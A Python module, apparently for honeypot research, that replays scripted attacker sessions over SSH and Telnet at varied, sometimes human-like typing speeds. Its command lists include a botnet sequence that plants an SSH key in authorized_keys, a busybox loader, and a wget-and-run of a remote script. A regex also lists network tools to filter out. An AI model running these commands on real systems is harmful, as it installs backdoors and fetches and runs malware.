"""Programs that log in and give commands, with pauses as they please.

The libraries are those that attackers use (paramiko, asyncssh, Expect and pexpect), and the real
``ssh`` fed by a script. Some imitate people: see ``IMITATORS``.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import os
import random
import re
import shutil
import time
from collections import defaultdict
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import asyncssh
import paramiko
import pexpect
from attackers import HOST, Ports
from typists import PLANS, WINDOWS, Person, TwoHands

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 mdrfckr"
MDRFCKR = (
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys && cd ~',
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)", "which ls", "crontab -l", "w", "uname -m", "top", "uname", "uname -a",
    "whoami", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
)  # fmt: skip
LOADER = (
    "enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox KDVRB",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox KDVRB", "tftp; wget; /bin/busybox KDVRB",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "rm .s; exit",
)  # fmt: skip
SCRIPTS: Sequence[Sequence[str]] = (
    MDRFCKR,
    ("uname -s -v -n -r -m",),
    ("cat /proc/uptime 2 > /dev/null | cut -d. -f1", "uname -m", "nproc"),
    ("/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "echo Hi | cat -n"),
    ("cd /tmp; wget http://198.51.100.9/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh",),
    # What somebody could have typed.
    *PLANS,
)


def pauses(chance: random.Random, longest: float) -> tuple[str, Callable[[], float]]:
    """Return how long a program waits between commands: the law's name, and a draw from it."""
    law = chance.choice(("none", "fixed", "uniform", "exponential", "normal", "log-normal"))
    mean = chance.uniform(0.05, 1.0) * longest / 2
    draws: dict[str, Callable[[], float]] = {
        "none": lambda: 0.0,
        "fixed": lambda: mean,
        "uniform": lambda: chance.uniform(0, 2 * mean),
        "exponential": lambda: min(longest, chance.expovariate(1 / mean)),
        "normal": lambda: max(0.0, chance.gauss(mean, mean / 4)),
        "log-normal": lambda: min(longest, chance.lognormvariate(0, 0.8) * mean),
    }
    return law, draws[law]


Pause = Callable[[], float]
Who = tuple[Ports, str, Sequence[str], Pause]
"""Where, with which password, what and how fast."""


CLAIMED = "OpenSSH_9.6p1 Ubuntu-3ubuntu13.5"
"""What a client that is no OpenSSH says it is."""

NUDGES = ("\n", "\n", "\r\n", "\x03", "q", "\r")
"""What programs send to see whether there is a prompt, or to leave what is running."""

IMITATORS = (
    *("expect-slow", "expect-human", "tcl-slow", "tcl-human"),
    *("keys-beat", "keys-uniform", "keys-normal", "keys-people"),
)
"""Programs that press keys one by one, at a person's pace: counted for themselves. The last draws
its times as ``TwoHands`` does, mistakes aside: nothing in the keys can tell it from a person."""


def _rhythm(kind: str, chance: random.Random) -> Callable[[str, str], float]:
    """Return how long a program that presses keys waits after one and before the next."""
    if kind == "at-once":
        return lambda _before, _key: 0.0
    mean = chance.uniform(0.06, 0.25)
    if kind == "beat":
        return lambda _before, _key: mean
    if kind == "uniform":
        return lambda _before, _key: chance.uniform(0.5, 1.5) * mean
    if kind == "normal":
        return lambda _before, _key: max(0.01, chance.gauss(mean, mean / 3))
    who: Person = TwoHands.drawn(chance)
    return lambda before, key: who.between(chance, before, key)


async def by_asyncssh(  # noqa: PLR0913, PLR0917 - who, where, what and how
    ports: Ports,
    password: str,
    lines: Sequence[str],
    pause: Pause,
    kind: str,
    chance: random.Random,
) -> None:
    """One connection.

    ``exec``: a channel a command; ``shell``: without a terminal; ``pty``: with one, ``forged``: the
    same with a window and a name that a person's client has; ``split``: its lines and their ends
    apart; ``nudges``: a single key before each; ``copied``: lines end as the Enter key sends them;
    ``keys-...``: key by key.
    """
    claimed = {"client_version": CLAIMED} if kind == "forged" else {}
    async with asyncssh.connect(
        HOST, ports.ssh, username="root", password=password, known_hosts=None, client_keys=None,
        config=[], agent_path=None, preferred_auth="password", **claimed,
    ) as connection:  # fmt: skip
        if kind == "exec":
            for line in lines:
                with contextlib.suppress(asyncio.TimeoutError, AttributeError, asyncssh.Error):
                    await asyncio.wait_for(connection.run(line), 3)
                await asyncio.sleep(pause())
            return
        options: dict[str, Any] = {} if kind == "shell" else {"term_type": "xterm"}
        if kind == "forged" or kind.startswith("keys-"):
            options["term_size"] = tuple(map(int, chance.choice(WINDOWS).split("x")))
        process = await connection.create_process(**options)
        drain = asyncio.create_task(_drain(process))
        rhythm = _rhythm(kind.partition("-")[2], chance) if kind.startswith("keys-") else None
        for line in lines:
            await asyncio.sleep(pause())
            if rhythm is not None:
                for before, key in zip(" " + line, f"{line}\r", strict=True):
                    process.stdin.write(key)
                    await asyncio.sleep(rhythm(before, key))
            elif kind == "split":
                process.stdin.write(line)
                process.stdin.write("\n")
            elif kind == "nudges":
                process.stdin.write(chance.choice(NUDGES))
                await asyncio.sleep(0.2)
                process.stdin.write(f"{line}\n")
            else:
                process.stdin.write(line + ("\r" if kind == "copied" else "\n"))
        await asyncio.sleep(0.3)
        drain.cancel()


async def _drain(process: Any) -> None:
    with contextlib.suppress(asyncssh.Error, asyncio.CancelledError, UnicodeDecodeError):
        while await process.stdout.read(4096):
            pass


def by_paramiko(ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str) -> None:
    """``exec``; ``shell``, which asks for a terminal of 80x24; ``split``: its lines' ends apart."""
    with paramiko.SSHClient() as client:
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        client.connect(
            HOST, ports.ssh, "root", password, look_for_keys=False, allow_agent=False, timeout=30,
            banner_timeout=30, auth_timeout=30,
        )  # fmt: skip
        if kind == "exec":
            for line in lines:
                with contextlib.suppress(Exception):
                    _, out, _ = client.exec_command(line, timeout=3)
                    out.read()
                time.sleep(pause())
            return
        channel = client.invoke_shell()
        for line in lines:
            time.sleep(pause())
            if kind == "split":
                channel.send(line.encode())
                channel.send(b"\n")
            else:
                channel.send(f"{line}\n".encode())
            if channel.recv_ready():
                channel.recv(65_536)
        time.sleep(0.3)


def by_expect(  # noqa: PLR0913, PLR0917 - who, where, what and how
    ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str, folder: Path,
    chance: random.Random,
) -> None:  # fmt: skip
    """The real ``ssh`` driven as Expect does it.

    ``line``: whole lines; ``slow``: as its ``send -s {1 .1}``; ``human``: as its ``send -h``, with
    the Weibull law and the figures of its manual page (.1 .3 1 .05 2).
    """
    child = pexpect.spawn(
        "ssh",
        [
            *("-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={folder / 'known'}"),
            *("-o", "PubkeyAuthentication=no", "-F", "none", "-p", str(ports.ssh), f"root@{HOST}"),
        ],
        timeout=60,
    )
    child.delaybeforesend = None
    child.expect("assword: ")
    child.sendline(password)
    child.expect(re.escape("# "))
    for line in lines:
        time.sleep(pause())
        if kind == "line":
            child.send(f"{line}\r")
            continue
        for before, key in zip(" " + line, f"{line}\r", strict=True):
            child.send(key)
            if kind == "slow":
                time.sleep(0.1)
            else:
                ends = before.isalnum() and not key.isalnum()
                time.sleep(min(2, max(0.05, chance.weibullvariate(0.3 if ends else 0.1, 1))))
    time.sleep(0.3)
    child.close(force=True)


TCL = """
lassign $argv port password how known script
set timeout 60
set send_slow {1 .1}
set send_human {.1 .3 1 .05 2}
spawn -noecho ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=$known \
    -o PubkeyAuthentication=no -F none -p $port root@127.0.0.1
expect "assword: "
send -- "$password\\r"
expect "# "
set lines [open $script]
while {[gets $lines pause] >= 0 && [gets $lines line] >= 0} {
    after $pause
    switch $how {
        slow { send -s -- "$line\\r" }
        chunks { set send_slow {10 .001}; send -s -- "$line\\r" }
        human { send -h -- "$line\\r" }
        line { send -- "$line\\r" }
    }
}
after 300
"""
"""The real Expect, with what its manual page gives for a fast and consistent typist."""


async def _run(*command: str, env: dict[str, str] | None = None, given: bytes = b"") -> None:
    """Run a program until it ends by itself."""
    process = await asyncio.create_subprocess_exec(
        *command, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT, env=env, start_new_session=True,
    )  # fmt: skip
    said, _ = await process.communicate(given)
    if process.returncode and b"Permission denied" in said:
        raise ConnectionError(said.decode(errors="replace")[-100:])


async def by_tcl(  # noqa: PLR0913, PLR0917 - who, where, what and how
    ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str, folder: Path
) -> None:
    """The real Expect: ``line``, ``slow`` (``send -s``), ``chunks`` or ``human`` (``send -h``)."""
    program, script = folder / f"{password}.exp", folder / f"{password}.lines"
    program.write_text(TCL)
    script.write_text("".join(f"{pause() * 1000:.0f}\n{line}\n" for line in lines))
    await _run(
        "expect", str(program), str(ports.ssh), password, kind, str(folder / "known"), str(script)
    )


async def by_ssh(  # noqa: PLR0913, PLR0917 - who, where, what and how
    ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str, folder: Path
) -> None:
    """The real ``ssh`` in a script, its password from a program.

    ``exec``: all commands as one; ``pipe``: a shell that reads them, without a terminal; ``tty``:
    with one, all in one piece.
    """
    teller = folder / f"{password}.sh"
    teller.write_text(f"#!/bin/sh\necho {password}\n")
    teller.chmod(0o700)
    env = {**os.environ, "SSH_ASKPASS": str(teller), "SSH_ASKPASS_REQUIRE": "force"}
    command = [
        *("ssh", "-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={folder / 'known'}"),
        *("-o", "PubkeyAuthentication=no", "-F", "none", "-p", str(ports.ssh)),
    ]
    if kind == "exec":
        await _run(*command, f"root@{HOST}", "; ".join(lines[:4]), env=env)
        return
    if kind == "tty":
        given = "".join(f"{line}\n" for line in (*lines, "exit")).encode()
        await _run(*command, "-tt", f"root@{HOST}", env=env, given=given)
        return
    process = await asyncio.create_subprocess_exec(
        *command, "-T", f"root@{HOST}", stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL, env=env,
        start_new_session=True,
    )  # fmt: skip
    assert process.stdin is not None
    try:
        for line in lines:
            await asyncio.sleep(pause())
            process.stdin.write(f"{line}\n".encode())
            await process.stdin.drain()
        await asyncio.sleep(1)
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.terminate()
        await process.wait()


async def by_loader(
    ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str
) -> None:
    """A Telnet loader: whole lines, on a socket; ``newlines`` in place of CR LF, or ``nudges``."""
    end = "\n" if kind == "newlines" else "\r\n"
    reader, writer = await asyncio.open_connection(HOST, ports.telnet)
    for prompt, answer in ((b"login: ", "root"), (b"assword: ", password), (b"# ", "")):
        await asyncio.wait_for(reader.readuntil(prompt), 30)
        if answer:
            writer.write(f"{answer}\r\n".encode())
    for line in lines:
        await asyncio.sleep(pause())
        if kind == "nudges":
            writer.write(b"\r\n")
            await asyncio.sleep(0.2)
        writer.write(f"{line}{end}".encode())
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(reader.read(65_536), 0.2)
    await asyncio.sleep(0.3)
    writer.close()


_NETWORK = re.compile(
    r"://|wget|curl|ftp|\bnc\b|ncat|telnet|\bssh |scp|ping|nslookup|\bdig\b|\bhost\b|/dev/tcp"
    r"|python|perl|apt|yum|sleep|\d+\.\d+\.\d+\.\d+"
)
"""In a line that a honeypot here shall not run: it would call on others, or wait."""
LONGEST_LINE, MOST_LINES = 1500, 50


def real_scripts(folder: Path) -> list[list[str]]:
    """Return what sessions of real logs ran, each once, without what would call on others.

    Who ran it there does not matter: here a program does.
    """
    found: dict[tuple[str, ...], None] = {}
    for path in sorted(folder.glob("*.jsonl.gz")):
        if "lab" in path.name:
            continue
        sessions: dict[str, list[str]] = defaultdict(list)
        for line in gzip.decompress(path.read_bytes()).splitlines():
            with contextlib.suppress(ValueError):
                event = json.loads(line)
                text = event.get("input")
                if event.get("eventid") == "cowrie.command.input" and isinstance(text, str):
                    sessions[str(event.get("session"))].append(text)
        for lines in sessions.values():
            if len(lines) <= MOST_LINES and all(
                text.isprintable() and text.isascii() and 0 < len(text) <= LONGEST_LINE
                and _NETWORK.search(text) is None
                for text in lines
            ):  # fmt: skip
                found[tuple(lines)] = None
    return [list(lines) for lines in found]


def missing() -> list[str]:
    """Return the programs that are not here."""
    return [name for name in ("ssh", "telnet", "expect") if shutil.which(name) is None]
